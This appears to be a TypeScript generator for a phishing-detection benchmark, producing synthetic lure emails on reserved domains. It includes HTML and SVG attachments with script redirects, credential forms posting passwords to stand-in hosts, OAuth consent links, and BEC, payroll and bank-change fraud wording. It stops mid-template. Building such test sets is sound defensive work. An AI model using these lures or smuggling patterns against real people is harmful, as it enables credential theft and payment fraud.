// The second unseen phishing set: written for the benchmark by hand, from published accounts of 2023–2026
// campaigns (CERT advisories and vendor write-ups), without the analysers, the first unseen set or the
// other written sets in sight, so that its catch rate measures how the analysers fare on mail their
// authors never saw. Nineteen kinds, two templates each, filled from a seed (people, brands, domains,
// amounts, wording, tone, and for some a language other than English): AiTM sign-in pages behind open
// redirects and IPFS or bucket hosting, QR codes in the body and in PDFs, HTML and SVG attachments,
// callback (TOAD) lures with no link at all, BEC requests, payroll diversion, vendor bank-detail changes,
// hijacked reply chains, OAuth consent grants, file-share notices, parcel and tax lures, crypto wallets,
// calendar invitations, e-signature envelopes, account suspensions, help-desk impersonation and spoofed
// internal HR notices. Every domain is reserved (.example, .test) or plainly made up; every attachment is
// an inert stand-in. Attackers' own lookalike domains pass SPF and DKIM as they do in life (the bench
// trusts no authserv-id, so those results are not counted either way).
import type { SeededRandom } from './generate.js';
import { type Draft, mimeMessage } from './mime.js';
import { qrJpeg, qrPng } from './payloads.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

export interface UnseenMessage2 {
  raw: string;
  kind: string;
  template: string;
}

const FIRST = [
  'Amira',
  'Lukas',
  'Priya',
  'Tomás',
  'Hannah',
  'Kenji',
  'Olivia',
  'Mateo',
  'Sofia',
  'Daniel',
  'Ines',
];
const LAST = [
  'Novak',
  'Okafor',
  'Lindqvist',
  'Ferreira',
  'Brennan',
  'Haddad',
  'Kowalski',
  'Tanaka',
  'Moreau',
];

export interface Person {
  first: string;
  last: string;
  full: string;
  /** Their address at the company under attack. */
  address: string;
}

/** Someone at the company, not one of `others`. */
export function person(r: SeededRandom, ...others: Person[]): Person {
  const first = r.pick(FIRST);
  const last = r.pick(LAST);
  if (others.some((o) => o.first === first && o.last === last)) return person(r, ...others);
  const local = `${first}.${last}`
    .toLowerCase()
    .normalize('NFD')
    .replace(/[^a-z.]/g, '');
  return { first, last, full: `${first} ${last}`, address: `${local}@corp.example` };
}

/** Random letters and digits, as tokens, ids and case numbers look. */
export function token(r: SeededRandom, length: number, alphabet = 'abcdefghjkmnpqrstuvwxyz23456789'): string {
  let s = '';
  for (let i = 0; i < length; i++) s += alphabet[r.below(alphabet.length)];
  return s;
}

export const digits = (r: SeededRandom, length: number) => token(r, length, '0123456789');

/** An amount between `min` and `max`, with cents and thousands separators. */
export function money(r: SeededRandom, min: number, max: number): string {
  const value = min + r.below(max - min) + r.below(100) / 100;
  return value.toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });
}

const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

/** The receiving MTA's Authentication-Results and the sender's DKIM signature header. */
export function authenticated(
  domain: string,
  result: { spf: string; dkim: string; dmarc: string },
  r: SeededRandom,
): string[] {
  return [
    `Authentication-Results: mx.corp.example; spf=${result.spf} smtp.mailfrom=${domain}; ` +
      `dkim=${result.dkim} header.d=${domain}; dmarc=${result.dmarc} header.from=${domain}`,
    `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=${domain}; s=s${digits(r, 1)}; ` +
      `h=from:to:subject:date:message-id; bh=${token(r, 43, BASE64)}=; b=${token(r, 88, BASE64)}`,
  ];
}

/** Header values with non-ASCII text as RFC 2047 encoded words, as mail user agents send them. */
export function withEncodedHeaders(raw: string): string {
  const end = raw.indexOf('\r\n\r\n');
  const word = (text: string) => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;
  const head = raw
    .slice(0, end)
    .split('\r\n')
    .map((line) => {
      const [, name, value] = /^([A-Za-z-]+): (.*)$/.exec(line) ?? [];
      if (value === undefined || /^[\x20-\x7e]*$/.test(value)) return line;
      if (name === 'Subject') return `${name}: ${word(value)}`;
      const [, display, address] = /^"?(.*?)"? (<.*>)$/.exec(value) ?? [];
      return display === undefined ? line : `${name}: ${word(display)} ${address}`;
    });
  return `${head.join('\r\n')}${raw.slice(end)}`;
}

export const passes = { spf: 'pass', dkim: 'pass', dmarc: 'pass' };
const spoofFails = { spf: 'fail', dkim: 'none', dmarc: 'fail' };
const b64 = (s: string) => Buffer.from(s).toString('base64');

const REDIRECTORS = [
  (to: string) => `https://www.searchportal.example/url?sa=t&url=${encodeURIComponent(to)}`,
  (to: string) => `https://t.adnetwork.example/r/?u=${encodeURIComponent(to)}&cid=88213`,
  (to: string) => `https://l.socialsite.example/l.php?u=${encodeURIComponent(to)}&h=AT0${'x'.repeat(6)}`,
];

/** A credential page as kits host them: a throwaway subdomain, IPFS, or a cloud bucket, the victim in the fragment. */
function kitPage(r: SeededRandom, victim: string): string {
  return r.pick([
    () => `https://${token(r, 10)}.workers-edge.example/auth/?${token(r, 6)}#${b64(victim)}`,
    () => `https://gateway.ipfs-host.example/ipfs/bafybei${token(r, 52)}#${victim}`,
    () => `https://storage.bucketcloud.example/o/${token(r, 12)}%2Findex.html?alt=media#${b64(victim)}`,
    () => `https://login-${token(r, 4)}.account-review.test/common/oauth2/${token(r, 16)}?e=${b64(victim)}`,
  ])();
}

export const button = (href: string, label: string, color = '#0067b8') =>
  `<table role="presentation"><tr><td style="background:${color};padding:10px 22px;border-radius:3px">` +
  `<a href="${href}" style="color:#fff;text-decoration:none;font-weight:600">${label}</a></td></tr></table>`;

export const page = (body: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">${body}</body></html>`;

const TEMPLATES: Template[] = [
  {
    kind: 'aitm-sign-in-alert',
    name: 'unusual-sign-in-redirect',
    draft(r, n) {
      const to = person(r);
      const city = r.pick(['Lagos', 'São Paulo', 'Hanoi', 'Bucharest', 'Jakarta']);
      const ip = `${r.pick(['41.', '177.', '103.', '86.'])}${r.below(250)}.${r.below(250)}.${r.below(250)}`;
      const link = r.pick(REDIRECTORS)(kitPage(r, to.address));
      return {
        number: n,
        headers: [
          ...authenticated('account-protection.test', passes, r),
          `From: "Microsoft account team" <no-reply@account-protection.test>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Unusual sign-in activity',
          'Microsoft 365: sign-in blocked',
          'Review recent activity',
        ]),
        html: page(
          `<p style="font-size:20px;color:#2672ec">Unusual sign-in activity</p>` +
            `<p>We detected something unusual about a recent sign-in to the Microsoft account ${to.address}.</p>` +
            `<p><b>Country/region:</b> ${city}<br><b>IP address:</b> ${ip}<br><b>Platform:</b> ${r.pick(['Windows 10', 'Android', 'Linux'])}<br>` +
            `<b>Browser:</b> ${r.pick(['Firefox', 'Chrome', 'Opera'])}</p>` +
            `<p>If this wasn't you, please review your recent activity and we'll help you take corrective action. ` +
            `${r.pick(['Sessions that are not confirmed within 24 hours will be signed out.', 'Your mailbox will be restricted until the review is complete.'])}</p>` +
            button(link, 'Review recent activity') +
            `<p style="color:#777;font-size:12px">To opt out or change where you receive security notifications, click here.<br>Thanks,<br>The Microsoft account team</p>`,
        ),
      };
    },
  },
  {
    kind: 'aitm-sign-in-alert',
    name: 'mfa-re-registration',
    draft(r, n) {
      const to = person(r);
      const days = 2 + r.below(4);
      const link = kitPage(r, to.address);
      return {
        number: n,
        headers: [
          ...authenticated('corp-mfa-services.test', passes, r),
          `From: IT Service Desk <servicedesk@corp-mfa-services.test>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          `Action required: re-register your authenticator within ${days} days`,
          'MFA migration – confirm your device',
          `[Ticket INC${digits(r, 7)}] Authenticator re-enrolment`,
        ]),
        text:
          `Hello ${to.first},\n\n` +
          r.pick([
            'As part of the move to phishing-resistant sign-in, every account has to register its authenticator again.',
            'Our multi-factor authentication provider is changing and your current device registration will stop working.',
          ]) +
          `\n\nPlease complete the re-registration before the deadline (${days} working days), otherwise you will be ` +
          `locked out of email, Teams and VPN:\n\n${link}\n\nThe process takes about two minutes. Have your phone ready.\n\n` +
          `Kind regards,\nIT Service Desk\nThis is an automated message, please do not reply.`,
      };
    },
  },
  {
    kind: 'qr-code',
    name: 'qr-inline-document-review',
    async draft(r, n) {
      const to = person(r);
      const url = `https://${token(r, 8)}.doc-review.test/?${b64(to.address)}`;
      const domain = `${token(r, 6)}-mailer.example`;
      return {
        number: n,
        headers: [
          ...authenticated(domain, passes, r),
          `From: "Sharepoint Docs" <docs@${domain}>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          `${to.first}, you have (2) pending documents`,
          'Document shared with you: Q4 Bonus Allocation',
          'ACTION REQUIRED: Employee Benefits 2027',
        ]),
        html: page(
          `<p>${r.pick(['Hi', 'Dear', 'Hello'])} ${to.first},</p><p>A secure document has been shared with you for review. ` +
            `For your security, scan the QR code below with your mobile camera to view it.</p>` +
            `<p><img src="cid:scan.png" width="180" height="180" alt=""></p>` +
            `<p style="font-size:11px;color:#888">Secured by Microsoft 365 · Ref ${digits(r, 9)}</p>`,
        ),
        parts: [{ type: 'image/png', name: 'scan.png', content: await qrPng(url), inline: true }],
      };
    },
  },
  {
    kind: 'qr-code',
    name: 'qr-in-pdf-salary',
    async draft(r, n) {
      const to = person(r);
      const year = r.pick(['2026', '2027']);
      const url = `https://payroll-${token(r, 5)}.hr-portal.test/${token(r, 10)}`;
      const pdf = onePagePdf(
        [
          `Dear ${to.full},`,
          `Your salary review for ${year} has been completed.`,
          'Scan the code below with your phone to view and sign your updated compensation letter.',
          'The letter must be signed within 48 hours.',
        ],
        { jpeg: await qrJpeg(url) },
      );
      return {
        number: n,
        headers: [`From: HR Department <hr-notice@${token(r, 7)}.example>`, `To: ${to.address}`],
        subject: r.pick([`Salary Adjustment ${year}`, `${to.last} – Compensation Review`, 'Payroll update']),
        text: r.pick([
          'Please see attached.',
          `Hi ${to.first}, your document is attached. HR`,
          'Attached is your annual compensation document. Kindly review.',
        ]),
        parts: [{ type: 'application/pdf', name: `Salary_Adjustment_${to.last}.pdf`, content: pdf }],
      };
    },
  },
  {
    kind: 'html-attachment',
    name: 'remittance-smuggling',
    draft(r, n) {
      const to = person(r);
      const vendor = r.pick(['Halvorsen Logistics', 'Brightwater Foods', 'Ostara Metals']);
      const kit = kitPage(r, to.address);
      const html =
        `<html><head><title>${vendor} - Remittance</title></head><body><div id="l">Loading document…</div>` +
        `<script>var e="${to.address}";var d=atob("${b64(`<form action="${kit}" method="post">`)}");` +
        `document.write(d);setTimeout(function(){window.location.href="${kit}"},800);</script></body></html>`;
      return {
        number: n,
        headers: [
          ...authenticated(`${vendor.split(' ')[0].toLowerCase()}-ap.test`, passes, r),
          `From: "${vendor} Accounts" <remittance@${vendor.split(' ')[0].toLowerCase()}-ap.test>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          `Remittance Advice - ${digits(r, 6)}`,
          `Payment confirmation ${vendor}`,
          'ACH Payment Received',
        ]),
        text: `Hello,\n\nPlease find the remittance advice for payment of USD ${money(r, 3000, 90000)} attached.\n\nRegards,\nAccounts Payable\n${vendor}`,
        parts: [{ type: 'text/html', name: `Remittance_${digits(r, 6)}.html`, content: Buffer.from(html) }],
      };
    },
  },
  {
    kind: 'html-attachment',
    name: 'secure-message-form',
    draft(r, n) {
      const to = person(r);
      const post = `https://${token(r, 9)}.formhandler.example/submit.php`;
      const html =
        `<!doctype html><html><body style="background:#f3f2f1"><div style="width:360px;margin:80px auto;background:#fff;padding:30px">` +
        `<h3>Verify your identity to read this message</h3><form method="POST" action="${post}">` +
        `<input name="login" value="${to.address}" readonly><input name="passwd" type="password" placeholder="Password">` +
        `<button type="submit">Open message</button></form></div></body></html>`;
      return {
        number: n,
        headers: [`From: Encrypted Mail <securemessage@${token(r, 8)}.test>`, `To: ${to.address}`],
        subject: r.pick([
          'You have received a secure message',
          'Encrypted: Contract amendment',
          'Secure message from Legal',
        ]),
        html: page(
          `<p>${to.first}, you've received a protected message.</p><p>Open the attachment <b>SecureMessage.htm</b> ` +
            `in your browser and sign in to read it. The message expires in ${r.pick(['24', '48', '72'])} hours.</p>`,
        ),
        parts: [{ type: 'text/html', name: 'SecureMessage.htm', content: Buffer.from(html) }],
      };
    },
  },
  {
    kind: 'svg-attachment',
    name: 'svg-voicemail',
    draft(r, n) {
      const to = person(r);
      const seconds = 20 + r.below(70);
      const kit = kitPage(r, to.address);
      const svg =
        `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><rect width="400" height="120" fill="#eee"/>` +
        `<text x="20" y="60">Playing voice message (0:${seconds})…</text>` +
        `<script><![CDATA[window.location.href=atob("${b64(kit)}");]]></script></svg>`;
      return {
        number: n,
        headers: [`From: "Voice Services" <voicemail@pbx-${token(r, 5)}.test>`, `To: ${to.address}`],
        subject: r.pick([
          `New voicemail from +1 (${digits(r, 3)}) ${digits(r, 3)}-${digits(r, 4)}`,
          `🔊 Missed call – 0:${seconds} message`,
          `VM-${digits(r, 5)} for ${to.first}`,
        ]),
        text: `You received a new voice message.\n\nDuration: 0:${seconds}\nReceived: ${r.pick(['Today', 'Monday'])} ${8 + r.below(9)}:${10 + r.below(50)}\n\nPlay the attached recording.`,
        parts: [{ type: 'image/svg+xml', name: `VM_${digits(r, 6)}.svg`, content: Buffer.from(svg) }],
      };
    },
  },
  {
    kind: 'svg-attachment',
    name: 'svg-purchase-order',
    draft(r, n) {
      const to = person(r);
      const kit = kitPage(r, to.address);
      const svg =
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300">` +
        `<a xlink:href="${kit}"><rect width="600" height="300" fill="#fff" stroke="#c00"/>` +
        `<text x="40" y="150" font-size="22">PURCHASE ORDER PO-${digits(r, 5)} – Click to view PDF</text></a></svg>`;
      const buyer = person(r, to);
      return {
        number: n,
        headers: [
          ...authenticated('procurement-hub.example', passes, r),
          `From: ${buyer.full} <${buyer.first.toLowerCase()}@procurement-hub.example>`,
          `To: ${to.address}`,
        ],
        subject: r.pick(['New Purchase Order', `RFQ / PO-${digits(r, 5)}`, 'Order confirmation needed']),
        text: r.pick([
          `Good day,\n\nKindly find our new order attached and confirm price and delivery time.\n\nBest regards\n${buyer.full}\nPurchasing`,
          `Hi,\nplease see PO attached, confirm asap.\n${buyer.first}`,
        ]),
        parts: [{ type: 'image/svg+xml', name: `PO_${digits(r, 5)}.svg`, content: Buffer.from(svg) }],
      };
    },
  },
  {
    kind: 'callback-toad',
    name: 'renewal-invoice-pdf',
    draft(r, n) {
      const to = person(r);
      const brand = r.pick(['Norton LifeLock', 'McAfee Total Protection', 'Geek Squad', 'PayPal']);
      const phone = `+1 (8${digits(r, 2)}) ${digits(r, 3)}-${digits(r, 4)}`;
      const amount = money(r, 289, 499);
      const pdf = onePagePdf([
        `${brand} – INVOICE #${digits(r, 9)}`,
        `Bill to: ${to.full}`,
        `Annual plan auto-renewal: USD ${amount}`,
        'Payment method: card on file',
        'If you did not authorise this renewal, call our billing team within 24 hours:',
        phone,
      ]);
      return {
        number: n,
        headers: [
          `From: ${r.pick(['Billing Dept', 'Order Update', 'Support'])} <${token(r, 9)}@freemail.example>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          `Your order #${digits(r, 8)} is confirmed`,
          'Subscription renewed successfully',
          `Invoice ${digits(r, 6)}`,
        ]),
        text: r.pick([
          `Dear customer,\n\nThank you for your renewal. Invoice attached.\n\nFor cancellation and refund call ${phone}.`,
          `Hello ${to.first},\n\nYour payment of $${amount} has been processed. If this was not you contact us: ${phone}`,
        ]),
        parts: [{ type: 'application/pdf', name: 'Invoice.pdf', content: pdf }],
      };
    },
  },
  {
    kind: 'callback-toad',
    name: 'crypto-withdrawal-text',
    draft(r, n) {
      const to = person(r);
      const coin = r.pick([
        ['BTC', `0.${digits(r, 4)}`, `bc1q${token(r, 38)}`],
        ['ETH', `${1 + r.below(8)}.${digits(r, 3)}`, `0x${token(r, 40, '0123456789abcdef')}`],
        [
          'USDT',
          `${2000 + r.below(9000)}.00`,
          `T${token(r, 33, 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789')}`,
        ],
      ]);
      const phone = `+1 ${digits(r, 3)} ${digits(r, 3)} ${digits(r, 4)}`;
      return {
        number: n,
        headers: [`From: "Coinbase Support" <alerts-${token(r, 4)}@notify-wallet.test>`, `To: ${to.address}`],
        subject: r.pick([
          `Withdrawal request: ${coin[1]} ${coin[0]}`,
          'Security alert: withdrawal pending',
          `Case #${digits(r, 8)}`,
        ]),
        text:
          `A withdrawal of ${coin[1]} ${coin[0]} to the address ${coin[2]} was requested from your account.\n\n` +
          r.pick([
            'If you did not make this request, call our fraud line immediately so we can cancel it:',
            'Not you? Speak to a security agent now to freeze the transfer:',
          ]) +
          `\n\n${phone}\n\nThe transfer will be completed in ${2 + r.below(4)} hours.\nDo not reply to this email.`,
      };
    },
  },
  {
    kind: 'bec-request',
    name: 'are-you-available',
    draft(r, n) {
      const boss = person(r);
      const to = person(r, boss);
      return {
        number: n,
        headers: [
          `From: ${boss.full} <${boss.first.toLowerCase()}.${token(r, 3)}@freemail.example>`,
          `To: ${to.address}`,
        ],
        subject: r.pick(['Quick favor', 'Are you available?', `${to.first}`, 'Request']),
        text: `${r.pick([
          `Hi ${to.first}, are you at your desk? I need you to handle a task for me discreetly. I'm in a meeting and can't talk on the phone, reply by email.`,
          `${to.first}, let me know when you are free. Need something done urgently today.`,
          `Hello ${to.first}\nI need your help with something confidential, are you available now?`,
        ])}\n\n${boss.full}\n${r.pick(['Sent from my iPhone', 'Sent from my mobile', ''])}`,
      };
    },
  },
  {
    kind: 'bec-request',
    name: 'gift-cards-for-clients',
    draft(r, n) {
      const boss = person(r);
      const to = person(r, boss);
      const count = r.pick([5, 8, 10]);
      const value = r.pick([100, 200, 250]);
      return {
        number: n,
        headers: [
          `From: "${boss.full}" <${boss.address}>`,
          `Reply-To: ${boss.first.toLowerCase()}${digits(r, 2)}@mailbox-free.test`,
          ...authenticated('corp.example', spoofFails, r).slice(0, 1),
          `To: ${to.address}`,
        ],
        subject: r.pick(['Client appreciation', 'Need this sorted today', 'Confidential']),
        text:
          `${to.first},\n\nI want to surprise some of our clients with gift cards today. I need ${count} ` +
          `${r.pick(['Apple', 'Amazon', 'Google Play'])} cards at $${value} each. ` +
          r.pick([
            'Get them from any store nearby, scratch the back and send me pictures of the codes.',
            'Buy them online and email me the codes, I will reimburse you this evening.',
          ]) +
          `\n\nKeep this between us for now, it's a surprise.\n\nThanks\n${boss.first}`,
      };
    },
  },
  {
    kind: 'payroll-diversion',
    name: 'direct-deposit-change',
    draft(r, n) {
      const staff = person(r);
      return {
        number: n,
        headers: [
          `From: ${staff.full} <${staff.last.toLowerCase()}.${staff.first.toLowerCase()}@freemail.example>`,
          'To: payroll@corp.example',
        ],
        subject: r.pick([
          'Direct deposit change',
          'Update bank details before next payroll',
          'Change of account',
        ]),
        text: `${r.pick([
          `Hello,\n\nI recently changed banks and would like to update my direct deposit information before the next payroll. What details do you need from me?`,
          `Hi payroll team, I need to change my salary account. Can it be done before the ${15 + r.below(13)}th? I'll send the new routing and account numbers.`,
        ])}\n\nThank you,\n${staff.full}`,
      };
    },
  },
  {
    kind: 'payroll-diversion',
    name: 'new-account-details-sent',
    draft(r, n) {
      const staff = person(r);
      return {
        number: n,
        headers: [
          `From: "${staff.full}" <${staff.address}>`,
          `Reply-To: ${staff.first.toLowerCase()}.${staff.last.toLowerCase()}@corp-mail.test`,
          ...authenticated('corp.example', spoofFails, r).slice(0, 1),
          'To: hr@corp.example',
        ],
        subject: r.pick([`RE: Direct deposit – ${staff.last}`, 'New banking info', 'Payroll account']),
        text:
          `Hi,\n\nAs discussed, here are my new details for this month's salary:\n\nBank: ${r.pick(['Green Dot Bank', 'Sutton Bank', 'Metropolitan Commercial'])}\n` +
          `Routing number: ${digits(r, 9)}\nAccount number: ${digits(r, 12)}\nAccount type: Checking\n\n` +
          `Please confirm once it is updated. I can't log in to the portal from my phone.\n\n${staff.first}`,
      };
    },
  },
  {
    kind: 'vendor-bank-change',
    name: 'updated-remittance-letter',
    draft(r, n) {
      const vendor = r.pick([
        ['Kestrel Freight', 'kestrelfreight'],
        ['Aldermoor Packaging', 'aldermoor'],
        ['Tessaract Components', 'tessaract'],
      ]);
      const clerk = person(r);
      const lookalike = `${vendor[1]}${r.pick(['-ltd', '-invoices', 'group', '-co'])}.test`;
      const iban = `GB${digits(r, 2)} ${token(r, 4, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 2)}`;
      const pdf = onePagePdf([
        `${vendor[0]} – Notice of change of bank details`,
        'With effect from the next payment run, please remit all payments to:',
        `Account name: ${vendor[0]}`,
        `IBAN: ${iban}`,
        'Previous account details are no longer valid due to an ongoing audit.',
        `Authorised: ${clerk.full}, Finance Manager`,
      ]);
      return {
        number: n,
        headers: [
          ...authenticated(lookalike, passes, r),
          `From: ${clerk.full} <${clerk.first.toLowerCase()}@${lookalike}>`,
          'To: accounts.payable@corp.example',
        ],
        subject: r.pick([
          'Updated banking details',
          `${vendor[0]}: change of remittance details`,
          'IMPORTANT – new bank account',
        ]),
        text:
          `Dear Accounts Payable,\n\nPlease note that our bank details have changed. The signed letter is attached. ` +
          r.pick([
            'Kindly update your records and confirm so that the outstanding invoices can be settled to the new account.',
            'Our previous account is under review and cannot receive funds; please hold any payment until you have updated it.',
          ]) +
          `\n\nBest regards,\n${clerk.full}\nFinance Manager | ${vendor[0]}`,
        parts: [{ type: 'application/pdf', name: 'Bank_Details_Change.pdf', content: pdf }],
      };
    },
  },
  {
    kind: 'vendor-bank-change',
    name: 'overdue-invoice-thread',
    draft(r, n) {
      const to = person(r);
      const clerk = person(r, to);
      const invoice = `INV-${digits(r, 5)}`;
      const amount = money(r, 8000, 240000);
      const lookalike = r.pick(['northwind-traders', 'contoso-supply', 'fabrikam-parts']);
      return {
        number: n,
        headers: [
          ...authenticated(`${lookalike}.example`, passes, r),
          `From: ${clerk.full} <${clerk.first.toLowerCase()}.${clerk.last.toLowerCase()}@${lookalike}.example>`,
          `To: ${to.address}`,
          `Cc: ${clerk.first.toLowerCase()}@${lookalike.replace('-', '')}.test`,
          `In-Reply-To: <${digits(r, 10)}@${lookalike}.example>`,
        ],
        subject: `RE: RE: ${invoice} overdue`,
        text:
          `Hi ${to.first},\n\n${r.pick(['Following up on the below.', 'Any update on this?', 'Just checking in again.'])} ` +
          `The payment of EUR ${amount} is now ${20 + r.below(40)} days overdue. Please note we changed banks last month, ` +
          `so the payment has to go to our new account; I will send the details once you confirm the amount.\n\n${clerk.full}\n\n` +
          `-----Original Message-----\nFrom: ${to.full}\nSent: ${r.pick(['Tuesday', 'Thursday'])}\nSubject: RE: ${invoice} overdue\n\n` +
          `Hi ${clerk.first}, I will check with our finance team and revert.\n`,
      };
    },
  },
  {
    kind: 'reply-chain-hijack',
    name: 'thread-reply-shared-link',
    draft(r, n) {
      const to = person(r);
      const partner = person(r, to);
      const company = r.pick(['harbourline-consulting', 'meridian-cpa', 'oakfield-legal']);
      const topic = r.pick([
        'Q3 reconciliation',
        'Lease renewal draft',
        'Project Atlas timeline',
        'Audit samples',
      ]);
      const link = `https://${token(r, 7)}.share-files.test/s/${token(r, 14)}`;
      return {
        number: n,
        headers: [
          ...authenticated(`${company}.example`, passes, r),
          `From: ${partner.full} <${partner.first.toLowerCase()}@${company}.example>`,
          `To: ${to.address}`,
          `In-Reply-To: <${token(r, 20)}@corp.example>`,
          `References: <${token(r, 20)}@${company}.example> <${token(r, 20)}@corp.example>`,
        ],
        subject: `Re: ${topic}`,
        html: page(
          `<p>${r.pick(['Hello', 'Hi', 'Good morning'])},</p><p>${r.pick([
            'Please find the requested documents at the link below.',
            'As promised, the updated files are here:',
            'Sorry for the delay, see the document:',
          ])}</p><p><a href="${link}">${topic}.pdf</a></p><p>${partner.first}</p><hr>` +
            `<p style="color:#555">On ${r.pick(['Mon', 'Wed', 'Fri'])}, ${to.full} &lt;${to.address}&gt; wrote:<br>` +
            `&gt; Thanks ${partner.first}, could you send over the latest version of the ${topic.toLowerCase()}?<br>&gt; Best, ${to.first}</p>`,
        ),
      };
    },
  },
  {
    kind: 'reply-chain-hijack',
    name: 'thread-reply-protected-zip',
    draft(r, n) {
      const to = person(r);
      const partner = person(r, to);
      const password = `${token(r, 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}${digits(r, 3)}`;
      const name = `${r.pick(['Doc', 'Scan', 'Report', 'File'])}_${digits(r, 4)}`;
      return {
        number: n,
        headers: [
          ...authenticated('westbrook-engineering.example', passes, r),
          `From: ${partner.full} <${partner.last.toLowerCase()}@westbrook-engineering.example>`,
          `To: ${to.address}`,
          `In-Reply-To: <${token(r, 18)}@corp.example>`,
        ],
        subject: `RE: ${r.pick(['Site visit notes', 'Quotation', 'Drawings rev B', 'Meeting minutes'])}`,
        text: `${r.pick(['Good afternoon', 'Hello', 'Hi all'])},\n\n${r.pick([
          'Please see the attached file and let me know.',
          'Important information in the attachment.',
          'Attached as requested.',
        ])}\nPassword: ${password}\n\n> On ${r.pick(['12', '19', '26'])} Oct, ${to.full} wrote:\n> Please send the file when you can.\n`,
        parts: [{ type: 'application/zip', name: `${name}.zip`, content: protectedZip(`${name}.js`, n) }],
      };
    },
  },
  {
    kind: 'oauth-consent',
    name: 'document-viewer-app',
    draft(r, n) {
      const to = person(r);
      const sender = person(r, to);
      const app = r.pick(['DocViewer Pro', 'SecureShare Reader', 'PDF Online Access']);
      const consent =
        `https://login.identityprovider.example/common/oauth2/v2.0/authorize?client_id=${token(r, 8)}-${token(r, 4)}-${token(r, 4)}-${token(r, 12)}` +
        `&response_type=code&redirect_uri=${encodeURIComponent(`https://${token(r, 6)}.appsvc.test/callback`)}` +
        '&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&prompt=consent';
      return {
        number: n,
        headers: [
          ...authenticated('partner-portal.example', passes, r),
          `From: ${sender.full} via ${app} <noreply@partner-portal.example>`,
          `To: ${to.address}`,
        ],
        subject: `${sender.full} shared "${r.pick(['Proposal_v3', 'NDA signed', 'Budget 2027'])}" with you`,
        html: page(
          `<p>${sender.full} (${sender.first.toLowerCase()}@partner-portal.example) has shared a file with you using ${app}.</p>` +
            `<p>To open it, allow ${app} to access your Microsoft 365 account. You only need to do this once.</p>` +
            button(consent, 'Open with Microsoft'),
        ),
      };
    },
  },
  {
    kind: 'oauth-consent',
    name: 'mailbox-security-addin',
    draft(r, n) {
      const to = person(r);
      const consent =
        `https://accounts.identityprovider.example/o/oauth2/auth?client_id=${digits(r, 12)}-${token(r, 24)}.apps.example` +
        `&redirect_uri=${encodeURIComponent(`https://mailguard-${token(r, 4)}.test/oauth`)}&scope=${encodeURIComponent('https://mail.identityprovider.example/ full_access')}` +
        '&access_type=offline&response_type=code';
      return {
        number: n,
        headers: [`From: Mail Security Team <security@mailguard-${token(r, 4)}.test>`, `To: ${to.address}`],
        subject: r.pick([
          'Enable the new spam protection add-in',
          'Your mailbox needs the security update',
          'Phishing protection: action needed',
        ]),
        text:
          `Hi ${to.first},\n\n${r.pick([
            'We have seen a rise in phishing mail to your department.',
            'Following last week\u2019s incident we are rolling out an improved filter.',
          ])} Please enable the MailGuard add-in on your account by approving it here:\n\n${consent}\n\n` +
          'Accounts without the add-in will be moved to restricted mode on Friday.\n\nSecurity Operations',
      };
    },
  },
  {
    kind: 'file-share-lure',
    name: 'shared-folder-notice',
    draft(r, n) {
      const to = person(r);
      const sender = person(r, to);
      const folder = r.pick(['Contracts 2027', 'Invoices_Q4', 'Board pack', 'HR – restructuring']);
      const link = r.pick(REDIRECTORS)(kitPage(r, to.address));
      const domain = `${token(r, 5)}.onmail.test`;
      return {
        number: n,
        headers: [
          ...authenticated(domain, passes, r),
          `From: "${sender.full} (via OneDrive)" <share@${domain}>`,
          `To: ${to.address}`,
        ],
        subject: `${sender.full} shared the folder "${folder}" with you`,
        html: page(
          `<div style="border:1px solid #ddd;padding:24px;max-width:480px"><p><b>${sender.full}</b> shared a folder with you.</p>` +
            `<p style="font-size:18px">📁 ${folder}</p><p>${r.pick(['', `"${to.first}, here are the files we talked about."`, '"Please review by EOD"'])}</p>` +
            button(link, 'Open') +
            `<p style="font-size:11px;color:#888">This link only works for the direct recipients of this message.</p></div>`,
        ),
      };
    },
  },
  {
    kind: 'file-share-lure',
    name: 'fax-pdf-with-link',
    draft(r, n) {
      const to = person(r);
      const pages = 1 + r.below(6);
      const kit = kitPage(r, to.address);
      const pdf = onePagePdf(
        [
          `eFax delivery – ${pages} page(s)`,
          `To: ${to.full}`,
          `Received: ${r.pick(['09:14', '11:52', '16:03'])}`,
          'Click here to view the full document',
        ],
        { link: kit },
      );
      return {
        number: n,
        headers: [`From: eFax Service <delivery@efax-${token(r, 5)}.example>`, `To: ${to.address}`],
        subject: r.pick([
          `Fax received: ${pages} pages`,
          `New fax message from ${digits(r, 10)}`,
          'Incoming fax document',
        ]),
        text: `You have a new fax.\n\nPages: ${pages}\nCaller ID: ${digits(r, 10)}\n\nOpen the attached PDF to view it.`,
        parts: [{ type: 'application/pdf', name: `fax_${digits(r, 8)}.pdf`, content: pdf }],
      };
    },
  },
  {
    kind: 'parcel-customs',
    name: 'customs-fee-short',
    draft(r, n) {
      const to = person(r);
      const fee = `${1 + r.below(3)}.${digits(r, 2)}`;
      const link = `https://${r.pick(['dhl', 'ups', 'post'])}-${token(r, 4)}.parcel-fee.test/${token(r, 6)}`;
      const german = r.below(3) === 0;
      return {
        number: n,
        headers: [
          `From: ${r.pick(['DHL Express', 'Parcel Service', 'Customs Desk'])} <noreply@${token(r, 8)}.example>`,
          `To: ${to.address}`,
        ],
        subject: german
          ? `Ihre Sendung ${digits(r, 10)} wartet auf Zahlung`
